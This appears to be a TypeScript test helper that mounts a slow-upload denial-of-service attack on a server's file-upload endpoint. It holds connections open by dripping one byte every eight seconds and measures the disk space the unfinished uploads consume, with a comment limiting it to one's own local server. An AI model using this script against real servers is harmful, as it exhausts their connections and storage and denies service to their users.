import { readdirSync, statSync } from 'node:fs';
import { connect, type Socket } from 'node:net';
import { join } from 'node:path';
import { setTimeout as wait } from 'node:timers/promises';

const BOUNDARY = 'unfinished';
/** Milliseconds between two bytes: often enough for a connection not to count as idle. */
export const DRIP = 8000;
/** Bytes that every request promises, within what the server takes by default. */
const PROMISED = 50_000_000;

export interface UploadAttack {
  /** Of the server, such as `http://127.0.0.1:3000`. */
  origin: string;
  /** Of one signed-in enterprise. */
  token: string;
  /** The server's folder of files that are on their way. */
  incoming: string;
  connections: number;
  /** Bytes that each connection sends at once, before it only drips. */
  bytesEach: number;
  /** How long it lasts at most. */
  seconds: number;
  /** Whether it may end before: looked at five times a second. */
  isEnough?(seen: Pick<UploadAttackResult, 'most' | 'answers'>): boolean;
}

export interface UploadAttackResult {
  /** Bytes held by unfinished uploads: the most at any time, and at the end. */
  most: number;
  atEnd: number;
  /** How many answers of each HTTP status came back; connections that got none are not counted. */
  answers: Record<string, number>;
  /** Connections that the server still held at the end. */
  open: number;
}

function bytesIn(folder: string): number {
  const sizeOf = (name: string) => statSync(join(folder, name), { throwIfNoEntry: false })?.size ?? 0;
  return readdirSync(folder).reduce((sum, name) => sum + sizeOf(name), 0);
}

function begin({ origin, token, bytesEach }: UploadAttack): Socket {
  const { hostname, port, host } = new URL(origin);
  const socket = connect(Number(port), hostname);
  // A reset is an answer too.
  socket.on('error', () => {});
  socket.write(
    [
      'POST /components/sysAttMain/upload HTTP/1.1',
      `host: ${host}`,
      `authorization: Bearer ${token}`,
      `content-type: multipart/form-data; boundary=${BOUNDARY}`,
      `content-length: ${PROMISED}`,
      '',
      `--${BOUNDARY}`,
      'content-disposition: form-data; name="file"; filename="a.zip"',
      '',
      'x'.repeat(bytesEach),
    ].join('\r\n'),
  );
  return socket;
}

/**
 * Begins uploads of one account that never end, and tells what they hold on the disk: each sends some bytes and then one
 * every eight seconds. It stops by itself. For a server of one's own, on this machine.
 */
export async function attackUploads(attack: UploadAttack): Promise<UploadAttackResult> {
  const answers: Record<string, number> = {};
  const sockets = Array.from({ length: attack.connections }, () => begin(attack));
  for (const socket of sockets)
    socket.once('data', (chunk) => {
      const status = /^HTTP\/1\.1 (\d+)/.exec(chunk.toString('latin1'))?.[1];
      if (status) answers[status] = (answers[status] ?? 0) + 1;
    });
  const alive = () => sockets.filter((socket) => !socket.closed && !socket.readableEnded);
  const drip = setInterval(() => {
    for (const socket of alive()) socket.write('x');
  }, DRIP);
  let most = 0;
  const end = performance.now() + attack.seconds * 1000;
  while (performance.now() < end && !attack.isEnough?.({ most, answers })) {
    await wait(200);
    most = Math.max(most, bytesIn(attack.incoming));
  }
  clearInterval(drip);
  const result = { most, atEnd: bytesIn(attack.incoming), answers, open: alive().length };
  for (const socket of sockets) socket.destroy();
  return result;
}
